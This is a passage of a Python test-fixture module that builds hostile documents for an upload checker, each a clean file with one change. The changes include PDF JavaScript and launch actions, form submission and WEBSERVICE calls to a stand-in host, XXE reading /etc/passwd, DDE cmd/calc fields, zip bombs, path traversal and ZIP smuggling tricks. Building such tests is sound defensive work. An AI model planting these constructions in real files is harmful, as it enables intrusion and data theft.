"""Hostile files, each made from a good one by one change, so that it is the change that is refused.

`FEINDLICH`: what the case is, name of the file, bytes, and a part of the German sentence that must come.
`SCHWER`: files as large as they may be, made to take time or memory.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from pypdf import PdfReader, PdfWriter

from massanzug.technik.anlage import ANLAGE_HOECHSTENS

ORDNER = Path(__file__).parent / "anlagen"
"""Saved by LibreOffice 7.4 without a window, from texts, slides and tables written for this test."""


class Feind(NamedTuple):
    fall: str
    name: str
    bau: Callable[[], bytes]
    sagt: str


# --- PDF --------------------------------------------------------------------------------------------------------------


def pdf(*weitere: bytes, wurzel: bytes = b"", seite: bytes = b"", anhang: bytes = b"", kopf: bytes = b"") -> bytes:
    """A page with one line; `weitere` are objects from number 6 on, the others go into root, page and trailer."""
    text = b"BT /F1 12 Tf 72 720 Td (Guten Tag) Tj ET"
    objekte = [
        b"<</Type/Catalog/Pages 2 0 R" + wurzel + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Resources<</Font<</F1 4 0 R>>>>"
        + seite
        + b">>",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        strom(text),
        *weitere,
    ]
    teile = [b"%PDF-1.7\n" + kopf]
    orte = []
    for nummer, objekt in enumerate(objekte, start=1):
        orte.append(sum(map(len, teile)))
        teile.append(b"%d 0 obj\n%s\nendobj\n" % (nummer, objekt))
    xref = sum(map(len, teile))
    zeilen = b"".join(b"%010d 00000 n \n" % ort for ort in orte)
    teile.append(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objekte) + 1, zeilen))
    teile.append(b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objekte) + 1, anhang, xref))
    return b"".join(teile)


def strom(inhalt: bytes, worte: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (worte, len(inhalt), inhalt)


def objektstrom(*objekte: bytes, ab: int = 20, art: bytes = b"/Type/ObjStm", filter: bytes = b"/FlateDecode") -> bytes:
    """A compressed stream with objects from number `ab` on."""
    orte, text = [], b""
    for nummer, objekt in enumerate(objekte):
        orte.append(b"%d %d " % (ab + nummer, len(text)))
        text += objekt + b" "
    kopf = b"".join(orte)
    gepackt = zlib.compress(kopf + text)
    return strom(gepackt, b"%s/N %d/First %d/Filter%s" % (art, len(objekte), len(kopf), filter))


def pdf_mit_objektstrom(*objekte: bytes, **wie: bytes) -> bytes:
    """A PDF 1.5 that finds objects 20 and following in a compressed stream, and its table of contents in another."""
    haupt = pdf(objektstrom(*objekte, **wie), wurzel=b"/OpenAction 20 0 R")  # type: ignore[arg-type]
    rumpf = haupt[: haupt.index(b"xref\n0 ")]
    orte = [rumpf.index(b"%d 0 obj" % nummer) for nummer in range(1, 7)]
    zeilen = [b"\0" * 7, *(struct.pack(">BIH", 1, ort, 0) for ort in orte)]
    zeilen += [struct.pack(">BIH", 2, 6, n) for n in range(len(objekte))]
    zeilen.append(struct.pack(">BIH", 1, len(rumpf), 0))
    verzeichnis = strom(
        zlib.compress(b"".join(zeilen)),
        b"/Type/XRef/Size %d/W[1 4 2]/Index[0 7 20 %d 19 1]/Root 1 0 R/Filter/FlateDecode"
        % (20 + len(objekte), len(objekte)),
    )
    return rumpf + b"19 0 obj\n" + verzeichnis + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(rumpf)


def pdf_verschluesselt() -> bytes:
    schreiber, puffer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf()))), io.BytesIO()
    schreiber.encrypt("geheim", algorithm="AES-256")
    schreiber.write(puffer)
    return puffer.getvalue()


JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
VERWEIS = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI%s>>>>]"
FORMULAR = b"/AcroForm<</Fields[]%s>>"


def mit_aktion(aktion: bytes) -> Callable[[], bytes]:
    """A button on the page that does it when clicked."""
    return lambda: pdf(seite=b"/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/T(x)/Rect[0 0 9 9]/A%s>>]" % aktion)


PDFS = [
    Feind("JavaScript beim Öffnen", "a.pdf", lambda: pdf(wurzel=b"/OpenAction" + JS), "JavaScript"),
    Feind("JavaScript auf Klick", "a.pdf", mit_aktion(JS), "JavaScript"),
    Feind(
        "JavaScript im Namensbaum",
        "a.pdf",
        lambda: pdf(wurzel=b"/Names<</JavaScript<</Names[(a) 6 0 R]>>>>"),
        "JavaScript",
    ),
    Feind("JavaScript mit #-Zeichen", "a.pdf", mit_aktion(JS.replace(b"/JavaS", b"/J#61vaS")), "verschleierte"),
    Feind("JavaScript ganz aus #-Zeichen", "a.pdf", mit_aktion(b"<</S/#4a#61#76#61Script/JS(x)>>"), "verschleierte"),
    Feind("JavaScript im Objektstrom", "a.pdf", lambda: pdf_mit_objektstrom(JS), "JavaScript"),
    Feind(
        "JavaScript im Objektstrom, der sich nicht nennt",
        "a.pdf",
        lambda: pdf_mit_objektstrom(JS, art=b""),
        "JavaScript",
    ),
    Feind(
        "Objektstrom hinter einem Kommentar",
        "a.pdf",
        lambda: pdf_mit_objektstrom(JS, filter=b"/FlateDecode%9 0 obj<<endstream\n"),
        "ungewöhnlich gepackt",
    ),
    Feind(
        "Objektstrom hinter einem Text",
        "a.pdf",
        lambda: pdf_mit_objektstrom(
            JS, filter=b"/FlateDecode/X(>>stream\n" + zlib.compress(b"1 0 a") + b"\nendstream endobj 9 0 obj<<)"
        ),
        "ungewöhnlich gepackt",
    ),
    Feind(
        "Objektstrom als LZW", "a.pdf", lambda: pdf_mit_objektstrom(JS, filter=b"/LZWDecode"), "ungewöhnlich gepackt"
    ),
    Feind(
        "Objektstrom doppelt gepackt",
        "a.pdf",
        lambda: pdf_mit_objektstrom(JS, filter=b"[/ASCII85Decode/FlateDecode]"),
        "ungewöhnlich gepackt",
    ),
    Feind(
        "Objektstrom mit Filter anderswo", "a.pdf", lambda: pdf_mit_objektstrom(JS, filter=b" 9 0 R"), "ungewöhnlich"
    ),
    Feind(
        "Objektstrom beschädigt", "a.pdf", lambda: pdf_mit_objektstrom(JS).replace(b"\nx\x9c", b"\nxx"), "beschädigt"
    ),
    Feind("Objektstrom als Bombe", "a.pdf", lambda: pdf_mit_objektstrom(b" " * 40 * 2**20), "ausgepackt zu groß"),
    Feind("startet ein Programm", "a.pdf", mit_aktion(b"<</S/Launch/F(calc.exe)>>"), "ein Programm"),
    Feind(
        "springt in eine andere Datei", "a.pdf", mit_aktion(b"<</S/GoToR/F(\\\\\\\\b\\\\c.pdf)/D[0/Fit]>>"), "andere"
    ),
    Feind("springt in eine eingebettete Datei", "a.pdf", mit_aktion(b"<</S/GoToE/D[0/Fit]>>"), "andere Datei"),
    Feind("sendet das Formular", "a.pdf", mit_aktion(b"<</S/SubmitForm/F(https://b.example/)>>"), "Daten sendet"),
    Feind("lädt Formulardaten", "a.pdf", mit_aktion(b"<</S/ImportData/F(a.fdf)>>"), "nachlädt"),
    Feind("spielt einen Film", "a.pdf", mit_aktion(b"<</S/Rendition/OP 0>>"), "Medien"),
    Feind("RichMedia", "a.pdf", lambda: pdf(seite=b"/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]"), "Medien"),
    Feind(
        "eingebettete Datei",
        "a.pdf",
        lambda: pdf(strom(b"MZ", b"/Type/EmbeddedFile"), wurzel=b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>"),
        "eingebettete Dateien",
    ),
    Feind("angeheftete Datei", "a.pdf", lambda: pdf(seite=b"/Annots[<</Subtype/FileAttachment>>]"), "eingebettete"),
    Feind("XFA-Formular", "a.pdf", lambda: pdf(strom(b"<xdp/>"), wurzel=FORMULAR % b"/XFA 6 0 R"), "XFA"),
    Feind("Aktion der Seite", "a.pdf", lambda: pdf(seite=b"/AA<</O<</S/URI/URI(https://b.example/)>>>>"), "von selbst"),
    Feind(
        "Aktion der Seite hinter Kommentar",
        "a.pdf",
        lambda: pdf(b"<</O<</S/Named/N/Print>>>>", seite=b"/AA%" + b"x" * 500 + b"\n 6 0 R"),
        "von selbst",
    ),
    Feind(
        "Verweis beim Öffnen",
        "a.pdf",
        lambda: pdf(wurzel=b"/OpenAction<</S/URI/URI(https://b.example/)>>"),
        "beim Öffnen",
    ),
    Feind(
        "Verweis beim Öffnen, anderswo",
        "a.pdf",
        lambda: pdf(b"<</S/URI/URI(https://b.example/)>>", wurzel=b"/OpenAction 6 0 R"),
        "beim Öffnen",
    ),
    Feind(
        "Verweis beim Öffnen, im Objektstrom",
        "a.pdf",
        lambda: pdf_mit_objektstrom(b"<</S/URI/URI(https://b.example/)>>"),
        "beim Öffnen",
    ),
    Feind(
        "Seite beim Öffnen und dann mehr",
        "a.pdf",
        lambda: pdf(wurzel=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://b.example)>>>>"),
        "beim Öffnen",
    ),
    Feind("Verweis auf eine Datei", "a.pdf", lambda: pdf(seite=VERWEIS % b"(file:///C:/a.exe)"), "Verweis"),
    Feind("Verweis auf einen Rechner", "a.pdf", lambda: pdf(seite=VERWEIS % b"<5c5c62>"), "Verweis"),
    Feind("Verweis auf JavaScript", "a.pdf", lambda: pdf(seite=VERWEIS % b" (java\tscript:x)"), "Verweis"),
    Feind("Verweis verschleiert", "a.pdf", lambda: pdf(seite=VERWEIS % b"(\\146ile:///a)"), "verschleierten"),
    Feind("Verweis anderswo", "a.pdf", lambda: pdf(b"(file:///a)", seite=VERWEIS % b" 6 0 R"), "verschleierten"),
    Feind("Verweis hexadezimal", "a.pdf", lambda: pdf(seite=VERWEIS % b"<66696c653a>"), "Verweis"),
    Feind("PDF mit Kennwort", "a.pdf", pdf_verschluesselt, "Kennwort"),
    Feind("abgeschnitten", "a.pdf", lambda: pdf()[:-300], "beschädigt"),
    Feind("Ende an falscher Stelle", "a.pdf", lambda: pdf()[:300] + b"startxref\n50\n%%EOF", "beschädigt"),
    Feind("Webseite davor", "a.pdf", lambda: b"<html><script>x</script>" + pdf(), "eine Webseite"),
    Feind("Leerzeile davor", "a.pdf", lambda: b"\n" + pdf(), "keine PDF-Datei"),
    Feind("ZIP dahinter", "a.pdf", lambda: pdf() + packe({"a.exe": b"MZ"}), "weitere Daten"),
    Feind("ZIP im Kommentar", "a.pdf", lambda: pdf(strom(packe({"a": b"MZ"}, laenge=330))), "ZIP-Archiv"),
    Feind("Webseite dahinter", "a.pdf", lambda: pdf() + b"<script>x</script>", "weitere Daten"),
    Feind("Webseite im Kopf", "a.pdf", lambda: pdf(kopf=b"%<script>alert(1)</script>\n"), "Webseite"),
    Feind("zwei PDF", "a.pdf", lambda: pdf(strom(pdf())), "zweite PDF"),
]

# --- Office -----------------------------------------------------------------------------------------------------------

Teile = dict[str, bytes]


def entpackt(name: str) -> Teile:
    with zipfile.ZipFile(ORDNER / name) as archiv:
        return {n: archiv.read(n) for n in archiv.namelist()}


def packe(teile: Teile, art: int = zipfile.ZIP_DEFLATED, laenge: int = 0) -> bytes:
    """An archive; with `laenge` it says that a comment of so many bytes follows, which is whatever stands behind it."""
    puffer = io.BytesIO()
    with zipfile.ZipFile(puffer, "w", art) as archiv:
        for name, inhalt in teile.items():
            archiv.writestr(zipfile.ZipInfo(name), inhalt, art)
    daten = puffer.getvalue()
    return daten[:-2] + struct.pack("<H", laenge) if laenge else daten


DOCX = entpackt("Bekundung Löwenzahn.docx")
XLSX = entpackt("Diagramm.xlsx")
PPTX = entpackt("Vorstellung Träger.pptx")
ODT = entpackt("Konzept Öffnung.odt")
ODS = entpackt("Diagramm.ods")
TYP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS, TEXT, ARTEN = "word/_rels/document.xml.rels", "word/document.xml", "[Content_Types].xml"


def mit(teile: Teile, **weitere: bytes) -> Callable[[], bytes]:
    return lambda: packe(teile | weitere)


def mit_beziehung(art: str, ziel: str, extern: bool = True, wo: str = RELS, teile: Teile = DOCX) -> Callable[[], bytes]:
    ort = ' TargetMode="External"' if extern else ""
    zeile = f'<Relationship Id="x99" Type="{TYP}{art}" Target="{ziel}"{ort}/>'
    alt = teile.get(wo, b'<Relationships xmlns="x"></Relationships>')
    return mit(teile, **{wo: alt.replace(b"</Relationships>", zeile.encode() + b"</Relationships>")})


def im_text(stueck: str) -> Callable[[], bytes]:
    return mit(DOCX, **{TEXT: DOCX[TEXT].replace(b"<w:body>", b"<w:body>" + stueck.encode(), 1)})


def im_odt(stueck: str) -> Callable[[], bytes]:
    return mit(ODT, **{"content.xml": ODT["content.xml"].replace(b"<office:text>", b"<office:text>" + stueck.encode())})


def feld(*stuecke: str) -> Callable[[], bytes]:
    text = "".join(f"<w:r><w:instrText>{s}</w:instrText></w:r>" for s in stuecke)
    ecke = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return im_text(f"<w:p>{ecke.format('begin')}{text}{ecke.format('end')}</w:p>")


def geaendert(stelle: Callable[[bytearray], None], teile: Teile = DOCX) -> Callable[[], bytes]:
    def baue() -> bytes:
        daten = bytearray(packe(teile))
        stelle(daten)
        return bytes(daten)

    return baue


def _alle_verschluesselt(daten: bytearray) -> None:
    for marke, versatz in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        stelle = daten.find(marke)
        while stelle >= 0:
            daten[stelle + versatz] |= 1
            stelle = daten.find(marke, stelle + 4)


def _andere_groesse(daten: bytearray) -> None:
    """Table and entry agree that the first part has one byte less."""
    for stelle in (daten.find(b"PK\x03\x04") + 22, daten.find(b"PK\x01\x02") + 24):
        daten[stelle : stelle + 4] = struct.pack("<I", struct.unpack_from("<I", daten, stelle)[0] - 1)


def _anderer_name_im_eintrag(daten: bytearray) -> None:
    daten[daten.find(b"PK\x03\x04") + 30] ^= 1


def _falsche_summe(daten: bytearray) -> None:
    for stelle in (daten.find(b"PK\x03\x04") + 14, daten.find(b"PK\x01\x02") + 16):
        daten[stelle] ^= 1


def _versteckter_rest(daten: bytearray) -> None:
    """The packed bytes of the first part go on behind their end."""
    kopf, tafel = daten.find(b"PK\x03\x04"), daten.find(b"PK\x01\x02")
    gepackt, name = struct.unpack_from("<I", daten, kopf + 18)[0], struct.unpack_from("<H", daten, kopf + 26)[0]
    ende = kopf + 30 + name + gepackt
    daten[ende:ende] = b"MZ versteckt"
    for stelle in (kopf + 18, tafel + 12 + 20):
        daten[stelle : stelle + 4] = struct.pack("<I", gepackt + 12)
    _verschiebe(daten, tafel + 12, 12)


def _luecke(daten: bytearray) -> None:
    """A program between the first and the second entry, and a table that knows where the second one is."""
    zweiter = daten.find(b"PK\x03\x04", 4)
    daten[zweiter:zweiter] = b"MZ versteckt"
    _verschiebe(daten, daten.find(b"PK\x01\x02"), 12)


def _vor_dem_verzeichnis(daten: bytearray) -> None:
    tafel = daten.find(b"PK\x01\x02")
    daten[tafel:tafel] = b"MZ versteckt"
    daten[-6:-2] = struct.pack("<I", tafel + 12)


def _andere_packart(daten: bytearray) -> None:
    """Who reads from the front takes the first part as it lies there, packed."""
    daten[daten.find(b"PK\x03\x04") + 8] = 0


def _verschiebe(daten: bytearray, tafel: int, um: int) -> None:
    """All entries but the first, and the table itself, lie further behind."""
    stelle = daten.find(b"PK\x01\x02", tafel + 4)
    while stelle >= 0:
        daten[stelle + 42 : stelle + 46] = struct.pack("<I", struct.unpack_from("<I", daten, stelle + 42)[0] + um)
        stelle = daten.find(b"PK\x01\x02", stelle + 4)
    daten[-6:-2] = struct.pack("<I", struct.unpack_from("<I", daten, len(daten) - 6)[0] + um)


def _ueberlappend(daten: bytearray) -> None:
    """The second line of the table leads to the first entry."""
    zweite = daten.find(b"PK\x01\x02", daten.find(b"PK\x01\x02") + 4)
    daten[zweite + 42 : zweite + 46] = b"\0\0\0\0"


def verknuepfung() -> bytes:
    puffer = io.BytesIO(packe(DOCX))
    eintrag = zipfile.ZipInfo("word/media/a.png")
    eintrag.external_attr = 0o120777 << 16
    with zipfile.ZipFile(puffer, "a") as archiv:
        archiv.writestr(eintrag, "/etc/passwd")
    return puffer.getvalue()


def doppelt(zweiter: str) -> bytes:
    puffer = io.BytesIO(packe(DOCX | {zweiter: b"<x/>"} if zweiter not in DOCX else DOCX))
    if zweiter in DOCX:
        daten = bytearray(packe(DOCX | {zweiter[:-1] + "_": b"<x/>"}))
        return bytes(daten).replace((zweiter[:-1] + "_").encode(), zweiter.encode())
    return puffer.getvalue()


def mit_nul_im_namen() -> bytes:
    return packe(DOCX | {"word/media/a.png_.exe": b"MZ"}).replace(b"a.png_.exe", b"a.png\0.exe")


def zwei_verzeichnisse() -> bytes:
    daten = packe(DOCX)
    return daten + daten[daten.rfind(b"PK\x05\x06") :]


LACHER = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
XXE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'

OFFICE = [
    Feind("Makros", "a.docx", mit(DOCX, **{"word/vbaProject.bin": b"x"}), "Makros"),
    Feind("Makros, andere Schreibung", "a.xlsx", mit(XLSX, **{"xl/VBAPROJECT.BIN": b"x"}), "Makros"),
    Feind(
        "Makros im Verzeichnis",
        "a.docx",
        mit(DOCX, **{ARTEN: DOCX[ARTEN].replace(b"document.main+xml", b"document.macroEnabled.main+xml")}),
        "Makros",
    ),
    Feind("Makros unter anderem Namen", "a.docx", mit_beziehung("vbaProject", "b.xml", False), "Makros"),
    Feind("alte Excel-Makros", "a.xlsx", mit(XLSX, **{"xl/macrosheets/sheet1.xml": b"<x/>"}), "Makros"),
    Feind("Makros in Basic", "a.odt", mit(ODT, **{"Basic/Standard/Modul.xml": b"<x/>"}), "Makros"),
    Feind("Makros in Python", "a.ods", mit(ODS, **{"Scripts/python/a.py": b"x"}), "Makros"),
    Feind(
        "Makro beim Öffnen",
        "a.odt",
        im_odt('<script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>'),
        "Makros",
    ),
    Feind("Makro hinter Verweis", "a.odt", im_odt('<text:a xlink:href="vnd.sun.star.script:x?y"/>'), "Makros"),
    Feind(
        "Makro hinter Folie",
        "a.pptx",
        mit(PPTX, **{"ppt/slides/slide9.xml": b'<x action="ppaction://macro?name=a"/>'}),
        "Makros",
    ),
    Feind("OLE-Objekt", "a.docx", mit(DOCX, **{"word/embeddings/oleObject1.bin": OLE}), "eingebettetes Objekt"),
    Feind("OLE als Bild", "a.docx", mit(DOCX, **{"word/media/image9.png": OLE}), "eingebettetes Objekt"),
    Feind("Programm als Bild", "a.pptx", mit(PPTX, **{"ppt/media/image9.emf": b"MZ\x90"}), "eingebettetes Objekt"),
    Feind("OLE im Text", "a.docx", im_text('<o:OLEObject xmlns:o="o" Type="Embed"/>'), "eingebettetes Objekt"),
    Feind("OLE-Beziehung", "a.docx", mit_beziehung("oleObject", "media/image1.png", False), "eingebettetes Objekt"),
    Feind("OLE in ODT", "a.odt", mit(ODT, **{"Object 1": OLE}), "eingebettetes Objekt"),
    Feind("ActiveX", "a.docx", mit(DOCX, **{"word/activeX/activeX1.xml": b"<x/>"}), "eingebettetes Objekt"),
    Feind(
        "eingebettetes Paket", "a.docx", mit(DOCX, **{"word/embeddings/a.xlsx": packe(XLSX)}), "eingebettetes Objekt"
    ),
    Feind(
        "Makros im Paket eines Diagramms",
        "a.docx",
        mit(
            DOCX,
            **{
                "word/charts/chart1.xml": b"<x/>",
                "word/embeddings/a.xlsx": packe(XLSX | {"xl/vbaProject.bin": b"x"}),
            },
        ),
        "Makros",
    ),
    Feind(
        "Paket im Paket eines Diagramms",
        "a.docx",
        mit(
            DOCX,
            **{
                "word/charts/chart1.xml": b"<x/>",
                "word/embeddings/a.xlsx": packe(
                    XLSX | {"xl/charts/c.xml": b"<x/>", "xl/embeddings/b.xlsx": packe(XLSX)}
                ),
            },
        ),
        "eingebettetes Objekt",
    ),
    Feind("Programm im Archiv", "a.docx", mit(DOCX, **{"word/a.exe": b"MZ"}), "eingebettetes Objekt"),
    Feind("ZIP im Archiv", "a.docx", mit(DOCX, **{"word/a.zip": packe({"a": b"b"})}), "eingebettetes Objekt"),
    Feind("Skript im SVG", "a.docx", mit(DOCX, **{"word/media/a.svg": SVG % b"<script>x</script>"}), "Makros"),
    Feind("Ereignis im SVG", "a.docx", mit(DOCX, **{"word/media/a.svg": SVG % b'<g onload="x"/>'}), "Makros"),
    Feind(
        "SVG lädt nach",
        "a.pptx",
        mit(PPTX, **{"ppt/media/a.svg": SVG % b'<image xlink:href="http://b.example/a.png"/>'}),
        "verknüpft",
    ),
    Feind("Vorlage aus dem Netz", "a.docx", mit_beziehung("attachedTemplate", "https://b.example/a.dotm"), "verknüpft"),
    Feind("Vorlage vom Server", "a.docx", mit_beziehung("attachedTemplate", "file:///\\\\b\\a.dotm"), "verknüpft"),
    Feind("Vorlage über UNC", "a.docx", mit_beziehung("attachedTemplate", "\\\\b\\a.dotm"), "verknüpft"),
    Feind("Bild aus dem Netz", "a.docx", mit_beziehung("image", "https://b.example/a.png"), "verknüpft"),
    Feind("Rahmen", "a.docx", mit_beziehung("frame", "https://b.example/"), "verknüpft"),
    Feind("Webseite im Text", "a.docx", mit_beziehung("aFChunk", "a.html", False), "verknüpft"),
    Feind("Verweis auf Datei", "a.docx", mit_beziehung("hyperlink", "file:///C:/a.exe"), "Verweis"),
    Feind("Verweis auf Protokoll", "a.docx", mit_beziehung("hyperlink", "ms-msdt:/id"), "Verweis"),
    Feind(
        "Bild im VML aus dem Netz", "a.docx", im_text('<v:imagedata xmlns:v="v" src="http://b.example/"/>'), "verknüpft"
    ),
    Feind("andere Mappe", "a.xlsx", mit(XLSX, **{"xl/externalLinks/externalLink1.xml": b"<x/>"}), "verknüpft"),
    Feind("Datenverbindung", "a.xlsx", mit(XLSX, **{"xl/connections.xml": b"<x/>"}), "verknüpft"),
    Feind("Bild in ODT aus dem Netz", "a.odt", im_odt('<draw:image xlink:href="https://b.example/"/>'), "verknüpft"),
    Feind("Abschnitt aus Datei", "a.odt", im_odt('<text:section-source xlink:href="../b.odt"/>'), "verknüpft"),
    Feind("DDE in ODT", "a.odt", im_odt('<office:dde-source office:dde-application="cmd"/>'), "verknüpft"),
    Feind("DDE-Feld", "a.docx", feld('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "DDE"),
    Feind("DDE-Feld in Stücken", "a.docx", feld("DD", "EAU", "TO cmd calc"), "DDE"),
    Feind("DDE als einfaches Feld", "a.docx", im_text('<w:fldSimple w:instr=" DDE cmd calc"/>'), "DDE"),
    Feind("DDE aus Zeichennummern", "a.docx", feld("QUOTE 68 68 69 65"), "DDE"),
    Feind("Feld holt Bild", "a.docx", feld('INCLUDEPICTURE "http://b.example/a.png"'), "Feld"),
    Feind("Feld verweist auf Server", "a.docx", feld('HYPERLINK "\\\\b\\a"'), "Verweis"),
    Feind("DDE-Formel", "a.xlsx", mit(XLSX, **{"xl/worksheets/s9.xml": b"<x><f>cmd|'/c calc'!A1</f></x>"}), "Formel"),
    Feind(
        "Formel ruft das Netz",
        "a.xlsx",
        mit(XLSX, **{"xl/worksheets/s9.xml": b'<x><f>_xlfn.WEBSERVICE("http://b.example")</f></x>'}),
        "Formel",
    ),
    Feind("Milliarde Lacher", "a.docx", mit(DOCX, **{"word/styles.xml": LACHER}), "DTD"),
    Feind("fremde Datei (XXE)", "a.odt", mit(ODT, **{"styles.xml": XXE}), "DTD"),
    Feind("DTD in UTF-16", "a.docx", mit(DOCX, **{"a.xml": XXE.decode().encode("utf-16")}), "DTD"),
    Feind("kein XML", "a.docx", mit(DOCX, **{"word/styles.xml": b"<x"}), "beschädigt"),
    Feind("Kennwort (Office)", "a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "Kennwort"),
    Feind(
        "Kennwort (ODF)",
        "a.odt",
        mit(ODT, **{"META-INF/manifest.xml": b'<m xmlns="x"><encryption-data/></m>'}),
        "Kennwort",
    ),
    Feind("Kennwort (ZIP)", "a.docx", geaendert(_alle_verschluesselt), "Kennwort"),
    Feind("Zipbombe", "a.docx", mit(DOCX, **{"word/a.xml": b" " * (30 * 2**20)}), "ausgepackt zu groß"),
    Feind(
        "flache Zipbombe", "a.docx", mit(DOCX, **{f"a{n}.xml": b" " * 2**20 for n in range(50)}), "ausgepackt zu groß"
    ),
    Feind("kleine Zipbombe", "a.docx", mit(DOCX, **{"word/a.xml": b" " * (10 * 2**20)}), "ausgepackt zu groß"),
    Feind("dreitausend Teile", "a.docx", mit(DOCX, **{f"a{n}.xml": b"<x/>" for n in range(3_000)}), "beschädigt"),
    Feind("tausend Ebenen", "a.docx", mit(DOCX, **{"a.xml": b"<x>" * 1_000 + b"</x>" * 1_000}), "ausgepackt zu groß"),
    Feind("überlappende Teile", "a.docx", geaendert(_ueberlappend), "beschädigt"),
    Feind("gelogene Größe", "a.docx", geaendert(_andere_groesse), "beschädigt"),
    Feind("falsche Prüfsumme", "a.docx", geaendert(_falsche_summe), "beschädigt"),
    Feind("Name im Eintrag ein anderer", "a.docx", geaendert(_anderer_name_im_eintrag), "beschädigt"),
    Feind("Daten hinter dem Teil", "a.docx", geaendert(_versteckter_rest), "beschädigt"),
    Feind("Daten zwischen den Teilen", "a.docx", geaendert(_luecke), "beschädigt"),
    Feind("Daten vor dem Verzeichnis", "a.docx", geaendert(_vor_dem_verzeichnis), "beschädigt"),
    Feind("Packart im Eintrag eine andere", "a.docx", geaendert(_andere_packart), "beschädigt"),
    Feind("Programm vor dem ZIP", "a.docx", lambda: b"MZ" + packe(DOCX), "ein Windows-Programm"),
    Feind("Text vor dem ZIP", "a.docx", lambda: b"text" + packe(DOCX), "etwas anderes"),
    Feind("ZIP vor dem ZIP", "a.docx", lambda: packe({"a": b"b"}) + packe(DOCX), "beschädigt"),
    Feind("Daten hinter dem ZIP", "a.docx", lambda: packe(DOCX) + b"<script>", "beschädigt"),
    Feind("zwei Verzeichnisse", "a.docx", zwei_verzeichnisse, "beschädigt"),
    Feind("Kommentar am ZIP", "a.docx", lambda: packe(DOCX, laenge=8) + b"MZ      ", "beschädigt"),
    Feind("abgeschnittenes ZIP", "a.docx", lambda: packe(DOCX)[:-30], "beschädigt"),
    Feind("Pfad nach oben", "a.docx", mit(DOCX, **{"../a.xml": b"<x/>"}), "beschädigt"),
    Feind("Pfad von der Wurzel", "a.docx", mit(DOCX, **{"/etc/a.xml": b"<x/>"}), "beschädigt"),
    Feind("Pfad mit Laufwerk", "a.docx", mit(DOCX, **{"C:a.xml": b"<x/>"}), "beschädigt"),
    Feind("Pfad mit Rückstrich", "a.docx", mit(DOCX, **{"word\\..\\a.xml": b"<x/>"}), "beschädigt"),
    Feind("NUL im Pfad", "a.docx", mit_nul_im_namen, "beschädigt"),
    Feind("Verknüpfung (symlink)", "a.docx", verknuepfung, "beschädigt"),
    Feind("doppelter Teil", "a.docx", lambda: doppelt("word/styles.xml"), "beschädigt"),
    Feind("doppelter Teil, andere Schreibung", "a.docx", lambda: doppelt("word/STYLES.xml"), "beschädigt"),
    Feind("BZIP2", "a.docx", lambda: packe(DOCX, zipfile.ZIP_BZIP2), "beschädigt"),
    Feind("bloßes ZIP", "a.docx", lambda: packe({"a.txt": b"b"}), "keine docx-Datei"),
    Feind("Excel als Word", "a.docx", lambda: packe(XLSX), "keine docx-Datei"),
    Feind("ODT als ODS", "a.ods", lambda: packe(ODT), "keine ods-Datei"),
]

# --- pictures and text ------------------------------------------------------------------------------------------------


def chunk(art: bytes, inhalt: bytes) -> bytes:
    return struct.pack(">I", len(inhalt)) + art + inhalt + struct.pack(">I", zlib.crc32(art + inhalt))


def png(breite: int = 3, hoehe: int = 2, *, daten: bytes | None = None, mehr: bytes = b"", farbe: int = 2) -> bytes:
    roh = daten if daten is not None else zlib.compress((b"\0" + b"\x40\x80\xc0" * breite) * hoehe)
    kopf = chunk(b"IHDR", struct.pack(">IIBBBBB", breite, hoehe, 8, farbe, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + kopf + mehr + chunk(b"IDAT", roh) + chunk(b"IEND", b"")


def segment(marke: int, inhalt: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marke, len(inhalt) + 2) + inhalt


def jpeg(breite: int = 8, hoehe: int = 8, *, mehr: bytes = b"", rahmen: int = 0xC0) -> bytes:
    """A grey square: every table has one code, and the only block says that nothing differs."""
    tafeln = segment(0xDB, b"\0" + b"\x10" * 64)
    tafeln += segment(0xC4, b"\x00" + b"\1" + b"\0" * 15 + b"\0") + segment(0xC4, b"\x10" + b"\1" + b"\0" * 15 + b"\0")
    bild = segment(rahmen, struct.pack(">BHHB", 8, hoehe, breite, 1) + b"\1\x11\0")
    abtastung = segment(0xDA, b"\1\1\0\0\x3f\0") + b"\x3f"
    return b"\xff\xd8" + segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0") + mehr + tafeln + bild + abtastung + b"\xff\xd9"


def _falsch(daten: bytes, stelle: int) -> bytes:
    return daten[:stelle] + bytes([daten[stelle] ^ 1]) + daten[stelle + 1 :]


BILDER = [
    Feind("PNG-Flut", "a.png", lambda: png(100_000, 100_000, daten=b"x"), "zu groß"),
